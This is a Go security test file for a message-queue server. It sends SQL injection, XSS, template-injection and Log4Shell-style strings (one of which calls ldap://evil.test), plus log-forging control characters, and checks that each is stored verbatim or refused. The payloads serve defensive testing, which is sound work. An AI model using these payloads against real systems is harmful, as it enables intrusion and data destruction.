package security

import (
	"encoding/json"
	"net/url"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/ledgerq/ledgerq/tests/harness"
)

var nameRule = regexp.MustCompile(`^[A-Za-z0-9][A-Za-z0-9._-]{0,79}$`)

// sqlish are strings that would change a query built by concatenation, and
// a few other injection classics: the server must treat each as data.
var sqlish = []string{
	"'; DROP TABLE events; --",
	`" OR "1"="1`,
	"1' OR '1'='1' /*",
	"'); DELETE FROM events WHERE ('1'='1",
	"Robert'); DROP TABLE students;--",
	"`; ATTACH DATABASE '/tmp/pwn.db' AS pwn; --",
	"%",
	"_",
	`\`,
	"NULL",
	"<script>alert(1)</script>",
	"${jndi:ldap://evil.test/a}",
	"{{7*7}}",
	"𝕃𝕖𝕕𝕘𝕖𝕣 ☃ \u202eevil",
}

// TestInjectionStringsAreData publishes, receives and reads back messages
// whose body, headers, content type, dedup id and consumer label are SQL
// metacharacters and other injection strings, and sends the same strings as
// cursors, prefixes, filters and ids. Every one is stored and returned
// verbatim or refused with 400; afterwards the hash chain verifies, online
// and with the offline `ledgerq audit verify`, and the server still works.
func TestInjectionStringsAreData(t *testing.T) {
	t.Parallel()
	s := startServer(t, harness.Options{})
	admin := s.token("sql-admin", "admin")
	harness.MustStatus(t, s.Call("POST", "/v1/queues", admin, map[string]any{"name": "sql.q"}), 201, "create sql.q")

	for i, v := range sqlish {
		dedup := v + " #" + strconv.Itoa(i)
		pub := s.Call("POST", "/v1/queues/sql.q/messages", admin, map[string]any{
			"body": v, "content_type": v, "dedup_id": dedup,
			"headers": map[string]string{"x-sql": v, "x'q\"--": v},
		})
		harness.MustStatus(t, pub, 201, "publish "+v)
		id := pub.Str("id")
		// The same dedup id is the same message; nothing else matches it.
		again := s.Call("POST", "/v1/queues/sql.q/messages", admin, map[string]any{"body": "dup", "dedup_id": dedup})
		harness.MustStatus(t, again, 200, "republish with dedup id "+dedup)
		if again.Str("id") != id {
			t.Fatalf("dedup id %q: second publish got %s, want %s", dedup, again.Str("id"), id)
		}
		recv := s.Call("POST", "/v1/queues/sql.q/receive", admin, map[string]any{"max_messages": 10, "consumer": v})
		harness.MustStatus(t, recv, 200, "receive as "+v)
		msgs, _ := recv.JSON["messages"].([]any)
		if len(msgs) != 1 {
			t.Fatalf("receive as %q: %d messages, want 1: %s", v, len(msgs), recv)
		}
		m := msgs[0].(map[string]any)
		hdr, _ := m["headers"].(map[string]any)
		if m["id"] != id || m["body"] != v || m["content_type"] != v || hdr["x-sql"] != v || hdr["x'q\"--"] != v || len(hdr) != 2 {
			t.Fatalf("received %v, want body, content type and headers %q verbatim", m, v)
		}
		harness.MustStatus(t, s.Call("POST", "/v1/queues/sql.q/ack", admin, map[string]any{"receipt": m["receipt"]}), 200, "ack")

		// The read side keeps it verbatim too, the consumer label included.
		pos := jsonNumber(recv.JSON["position"])
		detail := s.Call("GET", "/v1/messages/"+id, admin, nil, "X-Ledgerq-Min-Position", pos)
		harness.MustStatus(t, detail, 200, "get message "+id)
		if detail.Str("body") != v || detail.Str("content_type") != v {
			t.Fatalf("GET /v1/messages/%s: %s", id, detail)
		}
		if !historyHas(detail, "MessageLeased", "consumer", v) || !historyHas(detail, "MessagePublished", "dedup_id", dedup) {
			t.Fatalf("history of %s does not hold consumer %q and dedup id %q verbatim: %s", id, v, dedup, detail)
		}
	}

	// The same strings where the server expects structure: refused with
	// 400, or harmless (an unknown prefix, stream or id matches nothing).
	for _, v := range sqlish {
		q := url.QueryEscape(v)
		if nameRule.MatchString(v) {
			// "NULL" is a fine queue name: it is stored as text.
			harness.MustStatus(t, s.Call("POST", "/v1/queues", admin, map[string]any{"name": v}), 201, "queue named "+v)
			harness.MustStatus(t, s.Call("GET", "/v1/queues/"+v, admin, nil, "X-Ledgerq-Min-Position", headOf(s, admin)), 200, "queue path "+v)
		} else {
			harness.MustProblem(t, s.Call("POST", "/v1/queues", admin, map[string]any{"name": v}), 400, "invalid_argument", "queue named "+v)
			harness.MustProblem(t, s.Call("GET", "/v1/queues/"+url.PathEscape(v), admin, nil), 400, "invalid_argument", "queue path "+v)
		}
		harness.MustProblem(t, s.Call("GET", "/v1/queues?cursor="+q, admin, nil), 400, "invalid_argument", "queue cursor "+v)
		harness.MustProblem(t, s.Call("GET", "/v1/queues/sql.q/messages?cursor="+q, admin, nil), 400, "invalid_argument", "message cursor "+v)
		harness.MustProblem(t, s.Call("GET", "/v1/queues/sql.q/messages?state="+q, admin, nil), 400, "invalid_argument", "state "+v)
		harness.MustProblem(t, s.Call("GET", "/v1/events?type="+q, admin, nil), 400, "invalid_argument", "event type "+v)
		harness.MustProblem(t, s.Call("GET", "/v1/events?since="+q, admin, nil), 400, "invalid_argument", "since "+v)
		harness.MustProblem(t, s.Call("GET", "/v1/events?after="+q, admin, nil), 400, "invalid_argument", "after "+v)
		harness.MustProblem(t, s.Call("GET", "/v1/audit/state?at_time="+q, admin, nil), 400, "invalid_argument", "at_time "+v)
		harness.MustProblem(t, s.Call("POST", "/v1/queues/sql.q/ack", admin, map[string]any{"receipt": v}), 404, "receipt_not_found", "receipt "+v)

		list := s.Call("GET", "/v1/queues?prefix="+q, admin, nil)
		if list.Status != 200 && list.Status != 400 {
			t.Fatalf("prefix %q: %s", v, list)
		}
		if got := queueNames(list); got != "" && got != v {
			t.Fatalf("prefix %q listed %q: the prefix is not literal", v, got)
		}
		ev := s.Call("GET", "/v1/events?stream="+q, admin, nil)
		if evs, _ := ev.JSON["events"].([]any); ev.Status != 200 && ev.Status != 400 || len(evs) != 0 {
			t.Fatalf("stream filter %q: %s", v, ev)
		}
		if r := s.Call("GET", "/v1/messages/"+url.PathEscape(v), admin, nil); r.Status != 400 && r.Status != 404 {
			t.Fatalf("message id %q: %s, want 400 or 404", v, r)
		}
	}
	// LIKE wildcards in a prefix are literal characters.
	for _, q := range []string{"pre_fix", "prefix", "pre.fix"} {
		harness.MustStatus(t, s.Call("POST", "/v1/queues", admin, map[string]any{"name": q}), 201, "create "+q)
	}
	head := headOf(s, admin)
	for prefix, want := range map[string]string{"pre_": "pre_fix", "pre.": "pre.fix", "pre": "pre.fix,pre_fix,prefix", "p%": "", "%fix": ""} {
		r := s.Call("GET", "/v1/queues?prefix="+url.QueryEscape(prefix), admin, nil, "X-Ledgerq-Min-Position", head)
		harness.MustStatus(t, r, 200, "prefix "+prefix)
		if got := queueNames(r); got != want {
			t.Fatalf("prefix %q listed %q, want %q", prefix, got, want)
		}
	}
	// Control characters would forge log lines and terminal output: refused.
	for name, body := range map[string]map[string]any{
		"NUL in a header":         {"body": "x", "headers": map[string]string{"k": "a\x00b"}},
		"newline in a header":     {"body": "x", "headers": map[string]string{"k": "a\n{\"level\":\"error\"}"}},
		"escape in the dedup id":  {"body": "x", "dedup_id": "\x1b[31mred"},
		"newline in content_type": {"body": "x", "content_type": "text/plain\r\nX-Evil: 1"},
		"space in a header name":  {"body": "x", "headers": map[string]string{"a b": "v"}},
	} {
		harness.MustProblem(t, s.Call("POST", "/v1/queues/sql.q/messages", admin, body), 400, "invalid_argument", name)
	}
	harness.MustProblem(t, s.Call("POST", "/v1/queues/sql.q/receive", admin, map[string]any{"consumer": "c\n{\"level\":\"error\"}"}), 400, "invalid_argument", "newline in a consumer")

	// The log is intact and the server serves as before.
	verify := s.Call("GET", "/v1/audit/verify", admin, nil)
	if verify.Status != 200 || verify.JSON["ok"] != true {
		t.Fatalf("online verify after the injections: %s", verify)
	}
	harness.MustRun(t, "audit", "verify", "--data", s.Data)
	harness.MustStatus(t, s.Call("POST", "/v1/queues/sql.q/messages", admin, map[string]any{"body": "still here"}), 201, "publish afterwards")
	harness.MustStatus(t, s.Call("POST", "/v1/queues", admin, map[string]any{"name": "after.sql"}), 201, "create afterwards")
	s.alive()
}

// TestLongStrings sends every string field at its limit (accepted and
// returned verbatim) and one past it (400, or 413 for the body), plus far
// longer ones.
func TestLongStrings(t *testing.T) {
	t.Parallel()
	s := startServer(t, harness.Options{})
	admin := s.token("long-admin", "admin")
	harness.MustStatus(t, s.Call("POST", "/v1/queues", admin, map[string]any{"name": "long.q"}), 201, "create long.q")
	fill := func(n int) string { return strings.Repeat("'", n/2) + strings.Repeat("x", n-n/2) }

	atLimit := map[string]any{
		"body":         fill(262144),
		"content_type": fill(256),
		"dedup_id":     fill(128),
		"headers":      map[string]string{fill(128): fill(4096)},
	}
	pub := s.Call("POST", "/v1/queues/long.q/messages", admin, atLimit)
	harness.MustStatus(t, pub, 201, "publish with every field at its limit")
	recv := s.Call("POST", "/v1/queues/long.q/receive", admin, map[string]any{"consumer": fill(128)})
	harness.MustStatus(t, recv, 200, "receive with a consumer at its limit")
	msgs, _ := recv.JSON["messages"].([]any)
	if len(msgs) != 1 {
		t.Fatalf("receive: %d messages", len(msgs))
	}
	m := msgs[0].(map[string]any)
	hdr, _ := m["headers"].(map[string]any)
	if m["body"] != atLimit["body"] || m["content_type"] != atLimit["content_type"] || hdr[fill(128)] != fill(4096) {
		t.Fatalf("the message at the limits did not come back verbatim")
	}
	many := map[string]string{}
	for i := 0; i < 32; i++ {
		many["h"+strconv.Itoa(i)] = "v"
	}
	harness.MustStatus(t, s.Call("POST", "/v1/queues/long.q/messages", admin, map[string]any{"body": "x", "headers": many}), 201, "32 headers")
	many["h32"] = "v"

	over := map[string]map[string]any{
		"content_type of 257 bytes": {"body": "x", "content_type": fill(257)},
		"dedup_id of 129 bytes":     {"body": "x", "dedup_id": fill(129)},
		"header name of 129 bytes":  {"body": "x", "headers": map[string]string{fill(129): "v"}},
		"header value of 4097":      {"body": "x", "headers": map[string]string{"k": fill(4097)}},
		"33 headers":                {"body": "x", "headers": many},
		"dedup_id of 64 KB":         {"body": "x", "dedup_id": fill(64 << 10)},
	}
	for name, body := range over {
		harness.MustProblem(t, s.Call("POST", "/v1/queues/long.q/messages", admin, body), 400, "invalid_argument", name)
	}
	harness.MustProblem(t, s.Call("POST", "/v1/queues/long.q/messages", admin, map[string]any{"body": fill(262145)}), 413, "payload_too_large", "a body one byte past max_message_bytes")
	harness.MustProblem(t, s.Call("POST", "/v1/queues/long.q/receive", admin, map[string]any{"consumer": fill(129)}), 400, "invalid_argument", "a consumer of 129 bytes")
	harness.MustProblem(t, s.Call("POST", "/v1/queues/long.q/receive", admin, map[string]any{"consumer": fill(60 << 10)}), 400, "invalid_argument", "a consumer of 60 KB")
	harness.MustProblem(t, s.Call("POST", "/v1/queues/long.q/ack", admin, map[string]any{"receipt": fill(60 << 10)}), 400, "invalid_argument", "a receipt of 60 KB")

	name80 := strings.Repeat("q", 80)
	harness.MustStatus(t, s.Call("POST", "/v1/queues", admin, map[string]any{"name": name80}), 201, "an 80-character queue name")
	harness.MustStatus(t, s.Call("GET", "/v1/queues/"+name80, admin, nil, "X-Ledgerq-Min-Position", headOf(s, admin)), 200, "get the 80-character queue")
	harness.MustProblem(t, s.Call("POST", "/v1/queues", admin, map[string]any{"name": name80 + "q"}), 400, "invalid_argument", "an 81-character queue name")
	harness.MustProblem(t, s.Call("GET", "/v1/queues/"+name80+"q", admin, nil), 400, "invalid_argument", "an 81-character queue path")
	harness.MustProblem(t, s.Call("GET", "/v1/queues?cursor="+strings.Repeat("A", 4000), admin, nil), 400, "invalid_argument", "a 4000-character cursor")
	harness.MustProblem(t, s.Call("GET", "/v1/queues?prefix="+strings.Repeat("p", 81), admin, nil), 400, "invalid_argument", "an 81-character prefix")
	if r := s.Call("GET", "/v1/messages/"+strings.Repeat("M", 5000), admin, nil); r.Status != 400 {
		t.Fatalf("a 5000-character message id: %s", r)
	}
	if r := s.Call("GET", "/v1/events?stream="+strings.Repeat("s", 5000), admin, nil); r.Status != 400 {
		t.Fatalf("a 5000-character stream filter: %s", r)
	}
	// URLs past the header limit (64 KB) are refused; a megabyte one before
	// the server has read it.
	if r := s.Call("GET", "/v1/queues?prefix="+strings.Repeat("p", 70<<10), admin, nil); r.Status != 400 && r.Status != 431 {
		t.Fatalf("a 70 KB URL: %s, want 400 or 431", r)
	}
	if r := s.Call("GET", "/v1/queues?prefix="+strings.Repeat("p", 1<<20), admin, nil); r.Status != 431 {
		t.Fatalf("a 1 MB URL: %s, want 431", r)
	}
	verify := s.Call("GET", "/v1/audit/verify", admin, nil)
	if verify.Status != 200 || verify.JSON["ok"] != true {
		t.Fatalf("verify after long strings: %s", verify)
	}
	s.alive()
}

// TestInvalidUTF8IsRefused sends JSON bodies whose strings hold bytes that
// are not UTF-8 (RFC 8259 JSON text must be UTF-8). Such a body cannot be
// stored as sent, so it must be refused with 400, not silently rewritten
// with U+FFFD.
func TestInvalidUTF8IsRefused(t *testing.T) {
	t.Parallel()
	s := startServer(t, harness.Options{})
	admin := s.token("utf8-admin", "admin")
	harness.MustStatus(t, s.Call("POST", "/v1/queues", admin, map[string]any{"name": "utf8.q"}), 201, "create utf8.q")
	for name, raw := range map[string]string{
		"body":         "{\"body\":\"a\xff\xfeb\"}",
		"header name":  "{\"body\":\"x\",\"headers\":{\"k\xff\":\"v\"}}",
		"header value": "{\"body\":\"x\",\"headers\":{\"k\":\"v\xfe\"}}",
		"dedup_id":     "{\"body\":\"x\",\"dedup_id\":\"d\xc3\"}",
		"content_type": "{\"body\":\"x\",\"content_type\":\"text/\xe2\x82\"}",
		"batch entry":  "{\"messages\":[{\"body\":\"ok\"},{\"body\":\"\xed\xa0\x80\"}]}",
	} {
		path := "/v1/queues/utf8.q/messages"
		if name == "batch entry" {
			path += ":batch"
		}
		if utf8.ValidString(raw) || !json.Valid([]byte(raw)) {
			t.Fatalf("the %s case must be valid JSON syntax around invalid UTF-8: %q", name, raw)
		}
		r := s.Call("POST", path, admin, []byte(raw))
		if r.Status != 400 {
			t.Errorf("invalid UTF-8 in the %s: %s, want 400 invalid_argument (the bytes were rewritten, not refused)", name, r)
		}
	}
	harness.MustProblem(t, s.Call("POST", "/v1/queues/utf8.q/receive", admin, []byte("{\"consumer\":\"c\xff\"}")), 400, "invalid_argument", "invalid UTF-8 in the consumer")
}

// historyHas reports whether a message's history holds an event of type
// typ whose data has field equal to want.
func historyHas(detail harness.Response, typ, field, want string) bool {
	hist, _ := detail.JSON["history"].([]any)
	for _, h := range hist {
		e, _ := h.(map[string]any)
		data, _ := e["data"].(map[string]any)
		if e["type"] == typ && data[field] == want {
			return true
		}
	}
	return false
}

// queueNames lists the names of a queue listing, sorted, comma-separated.
func queueNames(r harness.Response) string {
	var names []string
	qs, _ := r.JSON["queues"].([]any)
	for _, q := range qs {
		if m, ok := q.(map[string]any); ok {
			names = append(names, m["name"].(string))
		}
	}
	slices.Sort(names)
	return strings.Join(names, ",")
}
